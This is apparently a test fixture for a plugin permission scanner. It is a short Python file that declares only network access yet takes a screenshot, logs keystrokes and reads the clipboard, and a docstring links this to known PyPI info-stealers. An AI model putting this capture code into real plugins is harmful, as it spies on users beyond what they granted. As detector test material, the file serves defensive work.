# ruff: noqa
# permissions: network
"""Clipboard, screenshots and key logging in a plugin that declares only network.

Technique: clipboard hijacking and screen capture in info-stealers (e.g. the "W4SP" and
"Creal" stealers on PyPI, reported by Phylum and Checkmarx, 2022-2023).
"""
import pyperclip  # attack: MB300
from PIL import ImageGrab
from pynput import keyboard


def grab():
    ImageGrab.grab().save("s.png")
    keyboard.Listener(on_press=print).start()
    return pyperclip.paste()
